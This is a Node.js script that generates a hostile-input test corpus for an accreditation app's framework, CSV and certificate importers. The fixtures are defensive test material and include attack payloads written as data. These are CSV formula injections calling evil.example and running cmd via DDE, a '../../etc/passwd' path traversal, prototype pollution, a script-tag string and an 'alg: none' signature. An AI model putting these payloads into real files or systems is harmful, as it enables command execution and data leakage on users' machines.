#!/usr/bin/env node
/**
 * Writes the hostile input corpus into test/fixtures/hostile/<kind>/: malformed framework
 * files, provider and ratings CSVs and certificate files; then scripts/hostile-archives.ts adds
 * bundles and register folders, broken copies of genuine ones the app makes. The files are
 * committed; these scripts say how each was made so the corpus can be regenerated or extended.
 * Backups are broken by their own tests (test/integration/backup-hostile.test.ts), and files
 * over the size limits are made sparse at test time rather than committed.
 *
 *   node scripts/hostile-corpus.mjs
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { pdfFromObjects } from './pdf-objects.mjs';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..');
const OUT = join(ROOT, 'test', 'fixtures', 'hostile');
const national = JSON.parse(
  readFileSync(join(ROOT, 'resources', 'frameworks', 'spqa-national-1.0.0.json'), 'utf8'),
);

const INVALID_UTF8 = Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe]);
const MB = 1024 * 1024;

/** A framework that passes the schema under its own id, for mutations to break one thing. */
function baseFramework() {
  const copy = structuredClone(national);
  copy.id = 'hostile-test';
  copy.version = '1.0.0';
  copy.title = 'Hostile test framework';
  return copy;
}
const json = (value) => JSON.stringify(value, null, 2);
function mutate(change) {
  const framework = baseFramework();
  change(framework);
  return json(framework);
}
const firstCriterion = (f) => f.domains[0].standards[0].criteria[0];

const framework = {
  'empty.json': '',
  'whitespace-only.json': '   \n\t  \n',
  'null.json': 'null',
  'array.json': '[]',
  'number.json': '42',
  'string.json': '"a framework"',
  'truncated.json': json(baseFramework()).slice(0, 900),
  'trailing-garbage.json': `${json(baseFramework())}\n}}} garbage`,
  'comments.json': `// a comment\n${json(baseFramework())}`,
  'single-quotes.json': "{'id': 'x', 'version': '1.0.0'}",
  'invalid-utf8.json': Buffer.concat([
    Buffer.from('{"id": "x'),
    INVALID_UTF8,
    Buffer.from('", "version": "1.0.0"}'),
  ]),
  'utf16le.json': Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(json(baseFramework()), 'utf16le'),
  ]),
  'deep-nesting-arrays.json': `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  'deep-nesting-objects.json': `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  'deep-nesting-in-field.json': mutate((f) => {
    firstCriterion(f).guidance = JSON.parse(`${'['.repeat(200)}"x"${']'.repeat(200)}`);
  }),
  'huge-statement.json': mutate((f) => {
    firstCriterion(f).statement = 'A'.repeat(MB / 4);
  }),
  'missing-id.json': mutate((f) => delete f.id),
  'missing-version.json': mutate((f) => delete f.version),
  'bad-semver.json': mutate((f) => (f.version = 'v1')),
  'id-path-traversal.json': mutate((f) => (f.id = '../../etc/passwd')),
  'id-with-spaces.json': mutate((f) => (f.id = 'my framework')),
  'no-domains.json': mutate((f) => (f.domains = [])),
  'domain-without-standards.json': mutate((f) => (f.domains[0].standards = [])),
  'standard-without-criteria.json': mutate((f) => (f.domains[0].standards[0].criteria = [])),
  'duplicate-criterion-code.json': mutate((f) => {
    const [a, b] = f.domains[0].standards[0].criteria;
    b.code = a.code;
  }),
  'duplicate-domain-code.json': mutate((f) => (f.domains[1].code = f.domains[0].code)),
  'empty-criterion-code.json': mutate((f) => (firstCriterion(f).code = '')),
  'criterion-code-of-other-standard.json': mutate((f) => (firstCriterion(f).code = 'ZZ9.9')),
  'unknown-level.json': mutate((f) => (firstCriterion(f).level = 'optional')),
  'unknown-provider-type.json': mutate((f) => (firstCriterion(f).appliesTo = ['hospital'])),
  'no-provider-types.json': mutate((f) => (firstCriterion(f).appliesTo = [])),
  'statement-is-number.json': mutate((f) => (firstCriterion(f).statement = 12)),
  'statement-empty.json': mutate((f) => (firstCriterion(f).statement = '')),
  'control-characters.json': mutate(
    (f) => (firstCriterion(f).statement = 'Safe\u0000guarding\u0007'),
  ),
  'percent-over-100.json': mutate((f) => (f.outcomeRules.accredited.minOverallPercent = 150)),
  'percent-negative.json': mutate((f) => (f.outcomeRules.accredited.minDomainPercent = -5)),
  'conditional-stricter-than-accredited.json': mutate((f) => {
    f.outcomeRules.conditional.minOverallPercent = 95;
  }),
  'validity-zero-years.json': mutate((f) => (f.outcomeRules.validityYears = 0)),
  'missing-outcome-rules.json': mutate((f) => delete f.outcomeRules),
  'proto-pollution.json': json(baseFramework()).replace('{', '{"__proto__": {"admin": true},'),
  'unknown-top-level-field.json': mutate((f) => (f.script = '<script>alert(1)</script>')),
  'installed-version-altered.json': json({
    ...national,
    title: 'A quietly altered national framework',
  }),
};

/** Provider CSVs: the header the importer wants, then rows each wrong in one way. */
const PH = 'name,type,region,postcode,charity_number,company_number';
const providerRow = 'Calder Connectors,link-worker,north-west,HX7 6AA,1187342,';
const providersCsv = {
  'empty.csv': '',
  'header-only.csv': `${PH}\n`,
  'no-header.csv': `${providerRow}\n`,
  'missing-required-column.csv': 'name,type,region\nCalder,link-worker,north-west\n',
  'unknown-column.csv': `${PH},favourite_colour\n${providerRow},blue\n`,
  'duplicate-column.csv': `${PH},name\n${providerRow},Other\n`,
  'invalid-utf8.csv': Buffer.concat([
    Buffer.from(`${PH}\nCalder `),
    INVALID_UTF8,
    Buffer.from(',link-worker,north-west,HX7 6AA,,\n'),
  ]),
  'utf16le.csv': Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(`${PH}\n${providerRow}\n`, 'utf16le'),
  ]),
  'binary-garbage.csv': Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
  'unterminated-quote.csv': `${PH}\n"Calder Connectors,link-worker,north-west,HX7 6AA,,\n`,
  'too-many-cells.csv': `${PH}\n${providerRow},extra,cells,here\n`,
  'too-few-cells.csv': `${PH}\nCalder Connectors,link-worker\n`,
  'huge-field.csv': `${PH}\n${'A'.repeat(MB / 4)},link-worker,north-west,HX7 6AA,,\n`,
  'too-many-rows.csv': `${PH}\n${',,,,,\n'.repeat(200_001)}`,
  'formula-in-charity-number.csv': `${PH}\nCalder,link-worker,north-west,HX7 6AA,=1+1,\n`,
  'formula-in-postcode.csv': `${PH}\nCalder,link-worker,north-west,"=HYPERLINK(""http://evil.example"",""x"")",,\n`,
  'formula-in-region.csv': `${PH}\nCalder,link-worker,@SUM(A1:A9),HX7 6AA,,\n`,
  'formula-in-type.csv': `${PH}\nCalder,+cmd|' /C calc'!A0,north-west,HX7 6AA,,\n`,
  'formula-in-company-number.csv': `${PH}\nCalder,link-worker,north-west,HX7 6AA,,-2+3\n`,
  'formula-in-website.csv': `${PH},website\nCalder,link-worker,north-west,HX7 6AA,,,"=WEBSERVICE(""http://evil.example"")"\n`,
  'formula-in-email.csv': `${PH},contact_name,contact_email\nCalder,link-worker,north-west,HX7 6AA,,,Ann,=A1@B2\n`,
  'bad-charity-number.csv': `${PH}\nCalder,link-worker,north-west,HX7 6AA,12,\n`,
  'bad-postcode.csv': `${PH}\nCalder,link-worker,north-west,NOT A POSTCODE,,\n`,
  'unknown-type.csv': `${PH}\nCalder,hospital,north-west,HX7 6AA,,\n`,
  'unknown-region.csv': `${PH}\nCalder,link-worker,Atlantis,HX7 6AA,,\n`,
  'name-too-short.csv': `${PH}\nC,link-worker,north-west,HX7 6AA,,\n`,
  'duplicate-charity-in-file.csv': `${PH}\nCalder,link-worker,north-west,HX7 6AA,1187342,\nOther,both,london,N1 1AA,1187342,\n`,
  'one-bad-row-of-many.csv': `${PH}\n${'Good Org,both,london,N1 1AA,,\n'.repeat(50)}Bad Org,both,london,N1 1AA,not-a-number,\n`,
  'null-bytes.csv': `${PH}\nCal\u0000der,link-worker,north-west,HX7 6AA,,\n`,
  'newline-only.csv': '\n\n\n',
};

/** Ratings CSVs for an assessment of a link worker service against the national framework. */
const RH = 'criterion,rating,note,reason,override_reason';
const ratingsCsv = {
  'empty.csv': '',
  'header-only.csv': `${RH}\n`,
  'unknown-criterion.csv': `${RH}\nZZ9.9,met,,,\n`,
  'unknown-rating.csv': `${RH}\nLW1.1,excellent,,,\n`,
  'na-without-reason.csv': `${RH}\nLW1.1,na,,,\n`,
  'criterion-path-traversal.csv': `${RH}\n../../LW1.1,met,,,\n`,
  'formula-in-rating.csv': `${RH}\nLW1.1,=1+1,,,\n`,
  'formula-in-criterion.csv': `${RH}\n@SUM(A1),met,,,\n`,
  'invalid-utf8.csv': Buffer.concat([
    Buffer.from(`${RH}\nLW1.1,met,`),
    INVALID_UTF8,
    Buffer.from(',,\n'),
  ]),
  'huge-note.csv': `${RH}\nLW1.1,partial,${'n'.repeat(MB / 4)},,\n`,
  'unterminated-quote.csv': `${RH}\nLW1.1,met,"note,,\n`,
  'duplicate-criterion.csv': `${RH}\nLW1.1,met,,,\nLW1.1,not-met,,,\n`,
  'missing-rating-column.csv': 'criterion,note\nLW1.1,hello\n',
};

/** Certificate files that must fail verification, each saying why. */
const SIG = {
  payload: { type: 'SPQACertificate', number: 'SPQA-2026-000001' },
  signature: { alg: 'Ed25519', keyId: 'k1', value: 'AAAA' },
};
const certificate = {
  'empty.json': '',
  'not-json.json': 'certificate: yes',
  'array.json': '[]',
  'payload-only.json': json({ payload: SIG.payload }),
  'signature-only.json': json({ signature: SIG.signature }),
  'wrong-alg.json': json({ ...SIG, signature: { ...SIG.signature, alg: 'none' } }),
  'empty-signature.json': json({ ...SIG, signature: { ...SIG.signature, value: '' } }),
  'signature-not-base64url.json': json({ ...SIG, signature: { ...SIG.signature, value: '***' } }),
  'forged-signature.json': json({ ...SIG, signature: { ...SIG.signature, value: 'A'.repeat(86) } }),
  'deep-nesting.json': `{"payload":${'['.repeat(50_000)}${']'.repeat(50_000)}}`,
  'invalid-utf8.json': Buffer.concat([
    Buffer.from('{"payload":"'),
    INVALID_UTF8,
    Buffer.from('"}'),
  ]),
  'truncated.pdf': '%PDF-1.7\n1 0 obj\n<< /Type /Catalog',
  'pdf-without-attachment.pdf': minimalPdf(),
  'pdf-header-only.pdf': '%PDF-1.4\n',
  'not-a-pdf.pdf': 'This is plain text pretending to be a PDF.\n',
  'zip-as-pdf.pdf': Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]),
};

/** The smallest well-formed PDF: one blank page, no attachments. */
function minimalPdf() {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ];
  return pdfFromObjects(objects);
}

const kinds = { framework, 'providers-csv': providersCsv, 'ratings-csv': ratingsCsv, certificate };
let count = 0;
for (const [kind, files] of Object.entries(kinds)) {
  const dir = join(OUT, kind);
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  for (const [name, content] of Object.entries(files)) {
    writeFileSync(join(dir, name), content);
    count += 1;
  }
}
console.log(`wrote ${count} hostile inputs under ${OUT}`);

// Bundles and registers are made by the app itself first, so that part is TypeScript: bundled
// with esbuild (as the benchmarks are) and run from the project root.
const esbuild = await import('esbuild');
const script = join(ROOT, 'dist', 'scripts', 'hostile-archives.mjs');
await esbuild.build({
  absWorkingDir: ROOT,
  entryPoints: ['scripts/hostile-archives.ts'],
  outfile: script,
  bundle: true,
  platform: 'node',
  target: 'node20',
  format: 'esm',
  logLevel: 'warning',
  external: ['better-sqlite3', 'electron'],
  banner: {
    js: "import { createRequire as __spqaCreateRequire } from 'node:module'; const require = __spqaCreateRequire(import.meta.url);",
  },
});
const archives = spawnSync(process.execPath, [script], { cwd: ROOT, stdio: 'inherit' });
process.exitCode = archives.status ?? 1;
